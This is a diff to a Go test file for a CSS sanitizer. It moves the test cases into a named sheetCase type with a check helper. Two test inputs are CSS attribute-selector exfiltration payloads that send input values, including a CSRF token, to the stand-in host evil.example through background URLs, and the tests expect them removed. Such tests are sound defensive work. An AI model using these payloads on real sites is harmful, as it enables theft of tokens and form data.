@@ -10,10 +10,7 @@ import (
 // attackTests are the known classes of CSS attack, each named after its
 // technique. want is the complete output; reason must be among the
 // removals, or with noRemoval nothing may be removed.
-var attackTests = []struct {
-	name, in, want string
-	reason         Reason
-}{
+var attackTests = []sheetCase{
 	// Reading attribute values through selectors.
 	{"attribute-prefix-exfiltration", `input[value^="a"]{background:url(//evil.example/a)}`, ``, ReasonAttribute},
 	{"attribute-substring-exfiltration", `input[name=csrf][value*=x]{background:url(//evil.example/x)}`, ``, ReasonAttribute},
@@ -114,23 +111,36 @@ var attackTests = []struct {
 // noRemoval marks a case that must be kept whole.
 const noRemoval = reasonCount
 
+// sheetCase is a sheet, the complete output Sanitize must write, and the
+// reason that must be among its removals (noRemoval: nothing removed).
+type sheetCase struct {
+	name, in, want string
+	reason         Reason
+}
+
+// check sanitises tc.in under o, checks the output and the removals, and
+// returns the output.
+func (tc sheetCase) check(t *testing.T, o Options) string {
+	t.Helper()
+	got, removed, err := Sanitize(tc.in, o)
+	if err != nil {
+		t.Fatalf("Sanitize(%q): %v", tc.in, err)
+	}
+	if diff := cmp.Diff(tc.want, got); diff != "" {
+		t.Errorf("Sanitize(%q) mismatch (-want +got):\n%s", tc.in, diff)
+	}
+	if tc.reason == noRemoval && len(removed) > 0 {
+		t.Errorf("Sanitize(%q) removed %v, want nothing removed", tc.in, removed)
+	}
+	if tc.reason != noRemoval && !hasReason(removed, tc.reason) {
+		t.Errorf("Sanitize(%q) removed %v, want a removal for %v", tc.in, removed, tc.reason)
+	}
+	return got
+}
+
 func TestSanitizeAttacks(t *testing.T) {
 	for _, tc := range attackTests {
-		t.Run(tc.name, func(t *testing.T) {
-			got, removed, err := Sanitize(tc.in, testOptions())
-			if err != nil {
-				t.Fatalf("Sanitize(%q): %v", tc.in, err)
-			}
-			if diff := cmp.Diff(tc.want, got); diff != "" {
-				t.Errorf("Sanitize(%q) mismatch (-want +got):\n%s", tc.in, diff)
-			}
-			if tc.reason == noRemoval && len(removed) > 0 {
-				t.Errorf("Sanitize(%q) removed %v, want nothing removed", tc.in, removed)
-			}
-			if tc.reason != noRemoval && !hasReason(removed, tc.reason) {
-				t.Errorf("Sanitize(%q) removed %v, want a removal for %v", tc.in, removed, tc.reason)
-			}
-		})
+		t.Run(tc.name, func(t *testing.T) { tc.check(t, testOptions()) })
 	}
 }
 
